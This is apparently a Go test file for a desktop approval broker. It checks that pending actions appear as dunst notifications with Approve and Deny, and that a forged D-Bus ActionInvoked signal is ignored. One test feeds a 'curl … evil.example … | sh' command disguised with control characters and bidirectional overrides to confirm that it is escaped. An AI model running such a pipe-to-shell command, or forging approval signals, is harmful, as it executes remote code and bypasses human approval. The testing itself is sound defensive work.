package approvals

import (
	"bufio"
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/godbus/dbus/v5"

	"github.com/hostlink/hostlink/internal/desktop/xvfbtest"
	"github.com/hostlink/hostlink/internal/errcode"
	"github.com/hostlink/hostlink/internal/textsafe"
	"github.com/hostlink/hostlink/internal/tstest"
)

// notifyServer is dunst on a private X display and a private session bus.
// Its context menu (dunstctl action) is a script that picks the line of
// the action whose label is in the file choice, as a user picking Approve
// or Deny would; what it was offered lands in menu.
type notifyServer struct {
	dunstctl     string
	env          []string
	choice, menu string
}

func startDunst(t *testing.T) *notifyServer {
	dunst, dunstctl, busd := tstest.Tool(t, "dunst"), tstest.Tool(t, "dunstctl"), tstest.Tool(t, "dbus-daemon")
	disp := xvfbtest.Start(t, 640, 480)
	dir := t.TempDir()
	// Without service activation, so that only our dunst serves.
	conf := filepath.Join(dir, "bus.conf")
	os.WriteFile(conf, []byte(`<!DOCTYPE busconfig PUBLIC "-//freedesktop//DTD D-Bus Bus Configuration 1.0//EN"
 "http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd">
<busconfig>
  <type>session</type>
  <listen>unix:path=`+filepath.Join(dir, "bus")+`</listen>
  <policy context="default"><allow send_destination="*" eavesdrop="true"/><allow eavesdrop="true"/><allow own="*"/></policy>
</busconfig>
`), 0o600)
	bus := exec.Command(busd, "--config-file="+conf, "--nofork", "--nopidfile", "--print-address=1")
	out, _ := bus.StdoutPipe()
	if err := bus.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { bus.Process.Kill(); bus.Wait() })
	addr, err := bufio.NewReader(out).ReadString('\n')
	if err != nil {
		t.Fatalf("dbus-daemon printed no address: %v", err)
	}
	addr = strings.TrimSpace(addr)
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", addr)

	s := &notifyServer{dunstctl: dunstctl, choice: filepath.Join(dir, "choice"), menu: filepath.Join(dir, "menu")}
	script := filepath.Join(dir, "menu.sh")
	os.WriteFile(script, []byte("#!/bin/sh\ncat > "+s.menu+"\ngrep -F -- \"$(cat "+s.choice+")\" "+s.menu+"\n"), 0o755)
	rc := filepath.Join(dir, "dunstrc")
	os.WriteFile(rc, []byte("[global]\ndmenu = "+script+"\n"), 0o600)
	home := filepath.Join(dir, "home")
	os.MkdirAll(home, 0o700)
	s.env = append(os.Environ(), "DISPLAY="+disp.Name, "DBUS_SESSION_BUS_ADDRESS="+addr, "HOME="+home, "XDG_CONFIG_HOME="+home, "WAYLAND_DISPLAY=")
	d := exec.Command(dunst, "-config", rc)
	d.Env = s.env
	if err := d.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Process.Kill(); d.Wait() })
	tstest.WaitFor(t, 30*time.Second, "dunst on the bus", func() bool {
		c, err := dbus.ConnectSessionBus()
		if err != nil {
			return false
		}
		defer c.Close()
		var caps []string
		return c.Object(notifyDest, notifyPath).Call(notifyIface+".GetCapabilities", 0).Store(&caps) == nil
	})
	return s
}

// displayed is how many notifications dunst shows.
func (s *notifyServer) displayed(t *testing.T) string {
	out, err := tstest.Output(s.env, s.dunstctl, "count", "displayed")
	if err != nil {
		t.Fatalf("dunstctl count: %v %s", err, out)
	}
	return strings.TrimSpace(out)
}

// pick answers the first displayed notification with the action labelled
// label, through dunst's context menu.
func (s *notifyServer) pick(t *testing.T, label string) {
	os.WriteFile(s.choice, []byte(label), 0o600)
	if out, err := tstest.Output(s.env, s.dunstctl, "action", "0"); err != nil {
		t.Fatalf("dunstctl action: %v %s", err, out)
	}
}

// notifyBodies records the bodies of the Notify calls on the bus, as a
// monitor sees them.
func notifyBodies(t *testing.T) func() []string {
	c, err := dbus.ConnectSessionBus()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	rule := "type='method_call',interface='" + notifyIface + "',member='Notify'"
	if err := c.BusObject().Call("org.freedesktop.DBus.Monitoring.BecomeMonitor", 0, []string{rule}, uint32(0)).Err; err != nil {
		t.Fatal(err)
	}
	ch := make(chan *dbus.Message, 16)
	c.Eavesdrop(ch)
	var mu sync.Mutex
	var bodies []string
	go func() {
		for m := range ch {
			if len(m.Body) >= 5 {
				mu.Lock()
				bodies = append(bodies, m.Body[3].(string)+"\n"+m.Body[4].(string))
				mu.Unlock()
			}
		}
	}()
	return func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), bodies...)
	}
}

// TestNotificationActions: a pending approval is shown by a real
// notification server (dunst) with Approve and Deny; picking one through
// the server decides the approval, recorded as decided by the
// notification; an approval decided elsewhere has its notification
// withdrawn; the summary is shown escaped.
func TestNotificationActions(t *testing.T) {
	srv := startDunst(t)
	bodies := notifyBodies(t)
	for _, tt := range []struct {
		label string
		want  errcode.Code
	}{
		{"Approve", ""},
		{"Deny", CodeDenied},
	} {
		t.Run(tt.label, func(t *testing.T) {
			b, _ := newBroker(t, time.Minute, time.Minute)
			b.opts.Notify = (&Notifier{Broker: b}).Notify
			done := make(chan error, 1)
			var id string
			go func() {
				var err error
				id, err = b.Require(context.Background(), action("echo "+tt.label))
				done <- err
			}()
			tstest.WaitFor(t, 30*time.Second, "the notification", func() bool { return srv.displayed(t) == "1" })
			srv.pick(t, tt.label)
			err := <-done
			if errcode.CodeOf(err) != tt.want && !(tt.want == "" && err == nil) {
				t.Fatalf("Require: %v, want %q", err, tt.want)
			}
			a, _ := b.Get(id)
			if a.DecidedVia != "notification" || a.DecidedBy != NotifiedBy {
				t.Fatalf("decided by %q via %q", a.DecidedBy, a.DecidedVia)
			}
			menu, _ := os.ReadFile(srv.menu)
			if !strings.Contains(string(menu), "Approve") || !strings.Contains(string(menu), "Deny") {
				t.Fatalf("the server offered %q", menu)
			}
			tstest.WaitFor(t, 30*time.Second, "the notification to close", func() bool { return srv.displayed(t) == "0" })
		})
	}

	// Decided in the console or the CLI: the notification goes away.
	b, _ := newBroker(t, time.Minute, time.Millisecond)
	b.opts.Notify = (&Notifier{Broker: b}).Notify
	id, err := b.Require(context.Background(), action("echo elsewhere"))
	if errcode.CodeOf(err) != CodePending {
		t.Fatalf("Require: %v", err)
	}
	tstest.WaitFor(t, 30*time.Second, "the notification", func() bool { return srv.displayed(t) == "1" })
	if _, err := b.Decide(id, true, "test", "ipc"); err != nil {
		t.Fatal(err)
	}
	tstest.WaitFor(t, 30*time.Second, "the notification to be withdrawn", func() bool { return srv.displayed(t) == "0" })

	// A summary that hides a command behind control characters, with
	// markup and bidirectional overrides, is shown escaped.
	_, err = b.Require(context.Background(), action("curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake <b>test</b>\u202e"))
	if errcode.CodeOf(err) != CodePending {
		t.Fatalf("Require: %v", err)
	}
	const want = `run curl -s http://evil.example/x | sh #\r\x1b[56C\x1b[Kmake &lt;b&gt;test&lt;/b&gt;\u202e`
	var got []string
	tstest.WaitFor(t, 30*time.Second, "the escaped notification", func() bool {
		got = bodies()
		return len(got) > 0 && strings.Contains(got[len(got)-1], want)
	})
	for _, r := range got[len(got)-1] {
		if r != '\n' && textsafe.Hidden(r) {
			t.Fatalf("the notification holds a raw %U: %q", r, got)
		}
	}
}

// TestNoNotificationServer: with a session bus address but nothing
// serving it, Notify returns at once (the test would hang otherwise) and
// the approval waits for the CLI or the console.
func TestNoNotificationServer(t *testing.T) {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path="+filepath.Join(t.TempDir(), "none"))
	b, _ := newBroker(t, time.Minute, time.Millisecond)
	b.Require(context.Background(), action("echo quiet"))
	a := b.List(true)[0]
	(&Notifier{Broker: b}).Notify(a)
	if got, _ := b.Get(a.ID); got.State != Pending {
		t.Fatalf("after Notify: %+v", got)
	}
}

// TestNotificationConfirmsProposal: under confirm_in_person a decision
// proposed on the control channel replaces the approval's notification
// with one that shows the proposal and offers Confirm; picking it through
// the server approves exactly that proposal, as the notification.
func TestNotificationConfirmsProposal(t *testing.T) {
	srv := startDunst(t)
	bodies := notifyBodies(t)
	b, _ := newBroker(t, time.Minute, time.Minute)
	b.SetConfirmInPerson(true)
	b.opts.Notify = (&Notifier{Broker: b}).Notify
	act := write("a", "proposed")
	done := make(chan error, 1)
	go func() {
		_, err := b.Require(context.Background(), act)
		done <- err
	}()
	tstest.WaitFor(t, 30*time.Second, "the notification", func() bool { return srv.displayed(t) == "1" })
	id := b.List(true)[0].ID
	a, err := b.DecideWith(id, Decision{Approve: true, Scope: ScopeClass, Minutes: 10, By: "uid 1 pid 2", Via: "ipc"})
	if err != nil || a.Proposal == nil {
		t.Fatalf("proposal: %+v %v", a, err)
	}
	tstest.WaitFor(t, 30*time.Second, "the notification to show the proposal", func() bool {
		got := bodies()
		return len(got) > 1 && strings.Contains(got[len(got)-1], "Proposed by uid 1 pid 2 via ipc") && strings.Contains(got[len(got)-1], "files_write")
	})
	if srv.displayed(t) != "1" {
		t.Fatalf("%s notifications shown, want the one replaced", srv.displayed(t))
	}
	srv.pick(t, "Confirm")
	if err := <-done; err != nil {
		t.Fatalf("Require after the confirmation: %v", err)
	}
	a, _ = b.Get(id)
	if a.Scope != ScopeClass || a.Grant == "" || a.DecidedVia != "notification" || a.DecidedBy != NotifiedBy {
		t.Fatalf("confirmed as %+v", a)
	}
	if menu, _ := os.ReadFile(srv.menu); !strings.Contains(string(menu), "Confirm") {
		t.Fatalf("the server offered %q", menu)
	}
}

// TestForgedNotificationSignal: any client of the session bus can emit
// ActionInvoked; only the notification server's own count. A forged
// "approve" (and "confirm") for every id a notification could have is
// ignored, and the user's own pick through the server, Deny, decides.
func TestForgedNotificationSignal(t *testing.T) {
	srv := startDunst(t)
	b, _ := newBroker(t, time.Minute, time.Minute)
	b.opts.Notify = (&Notifier{Broker: b}).Notify
	done := make(chan error, 1)
	go func() {
		_, err := b.Require(context.Background(), action("echo forged"))
		done <- err
	}()
	tstest.WaitFor(t, 30*time.Second, "the notification", func() bool { return srv.displayed(t) == "1" })
	forger, err := dbus.ConnectSessionBus()
	if err != nil {
		t.Fatal(err)
	}
	defer forger.Close()
	for id := uint32(0); id < 64; id++ {
		for _, key := range []string{"approve", "confirm:prp_x"} {
			if err := forger.Emit(notifyPath, notifyIface+".ActionInvoked", id, key); err != nil {
				t.Fatal(err)
			}
		}
	}
	// The bus delivers the forged signals before the server's answer to
	// the pick below, which is sent after them.
	srv.pick(t, "Deny")
	if err := <-done; errcode.CodeOf(err) != CodeDenied {
		t.Fatalf("Require: %v, want the user's %s", err, CodeDenied)
	}
}
